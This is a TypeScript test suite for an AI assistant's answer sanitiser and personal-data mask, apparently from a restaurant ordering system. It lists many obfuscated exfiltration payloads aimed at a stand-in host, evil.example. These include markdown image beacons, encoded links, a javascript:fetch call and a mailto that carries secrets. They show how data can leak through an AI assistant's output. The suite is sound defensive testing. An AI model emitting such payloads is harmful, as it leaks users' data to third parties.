import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { normalizedQuestion } from '../../src/domain/assistant/assistant.js';
import { AnswerText } from '../../src/domain/assistant/answerText.js';
import { Mask } from '../../src/domain/assistant/masking.js';

const OWN = 'https://bistro.example';
const clean = (text: string): string => {
  const cleaner = new AnswerText(OWN);
  return cleaner.add(text) + cleaner.end();
};

describe('the text of an answer', () => {
  const EVIL = [
    '![x](https://evil.example/?d=secret)',
    '[click here](https://evil.example/secret)',
    'https://evil.example/secret',
    'HTTPS://EVIL.EXAMPLE/secret',
    'http:\\/\\/evil.example/secret',
    '](\nhttps://evil.example/secret)',
    '![a][b]\n\n[b]: //evil.example/secret',
    '<img src=//evil.example/secret>',
    '<img src="https:&#47;&#47;evil.example/secret">',
    '[a](&#104;ttps://evil.example/secret)',
    '[a](https&colon;//evil.example/secret)',
    '[a](javascript:fetch("//evil.example/secret"))',
    'www.evil.example/secret',
    'evil.example/secret',
    'evil.example?d=secret',
    'ht\u200btps://evil.example/secret',
    'https:/\u00ad/evil.example/secret',
    'mailto:thief@evil.example?body=secret',
    `${OWN}@evil.example/secret`,
    `${OWN}.evil.example/secret`,
    `[x](${OWN}/v1/orders)https://evil.example/secret`,
    '[a](<https://evil.example/secret>)',
    '(https%3A%2F%2Fevil.example/secret)',
  ];
  for (const text of EVIL)
    test(`keeps no way out in ${JSON.stringify(text)}`, () => {
      const said = clean(`Before ${text} after`);
      assert.doesNotMatch(said, /evil\.example\/|evil\.example\?|secret[)>]|\]\(|!\[/i, said);
      assert.match(said, /^Before .*after$/s);
    });

  test('keeps ordinary text, figures and addresses of this server', () => {
    for (const text of [
      'Lentil soup sold best: 27.00 EUR (3 of 12 orders), 22.5 % of sales.',
      'Order ORD-202611-0004 at 12:30; see /v1/orders?status=ready or https://bistro.example/v1/reports/sales?from=2026-01-01.',
      'Gemüse/Obst, z.B. 2 kg Äpfel & 1/2 l Milch; "ready" [guest-3f9a1c]: 1.250,00 €',
      'Line one\n\n- two\n- three',
    ])
      assert.equal(clean(text), text);
  });

  test('says the same whatever the pieces are', () => {
    const word = fc.oneof(fc.constantFrom(...EVIL), fc.string({ maxLength: 8 }), fc.constantFrom(' ', '\n', 'soup'));
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), fc.array(fc.nat(40), { maxLength: 30 }), (words, cuts) => {
        const text = words.join(' ');
        const whole = clean(text);
        const cleaner = new AnswerText(OWN);
        let [said, at] = ['', 0];
        for (const cut of cuts) {
          said += cleaner.add(text.slice(at, at + cut));
          at += cut;
        }
        said += cleaner.add(text.slice(at)) + cleaner.end();
        assert.equal(said, whole);
        assert.doesNotMatch(said, /https?:\/\/evil/i);
      }),
    );
  });
});

describe('the mask', () => {
  const mask = () => new Mask((value) => createHash('md5').update(value).digest('hex').replaceAll(/\d/g, 'x'));

  test('hides and shows again', () => {
    const one = mask();
    one.learn({ name: 'Ana María Ñúñez', phone: '0170 555', email: null });
    const text = 'ana maría ñúñez, Ñúñez, +49 (170) 123-4567, 555-123-4567, ana@bistro.example, 4111-1111-1111-1111';
    const hidden = one.hide(text);
    assert.doesNotMatch(hidden, /ñúñez|123|bistro|4111/i);
    assert.match(one.show(hidden), /4111-1111-1111-1111/);
  });

  test('leaves dates, ids, amounts and order numbers alone', () => {
    const text = '2026-11-27 to 2026-11-28, ORD-202611-0004, 01941f29-7c00-7000-8000-000000000000, 1250, 12:30, 3.5 kg';
    assert.equal(mask().hide(text), text);
  });
});

test('questions are compared without case, blanks and final marks', () => {
  assert.equal(normalizedQuestion('  What  SOLD best? '), 'what sold best');
  assert.notEqual(normalizedQuestion('Sales in May?'), normalizedQuestion('Sales in March?'));
});
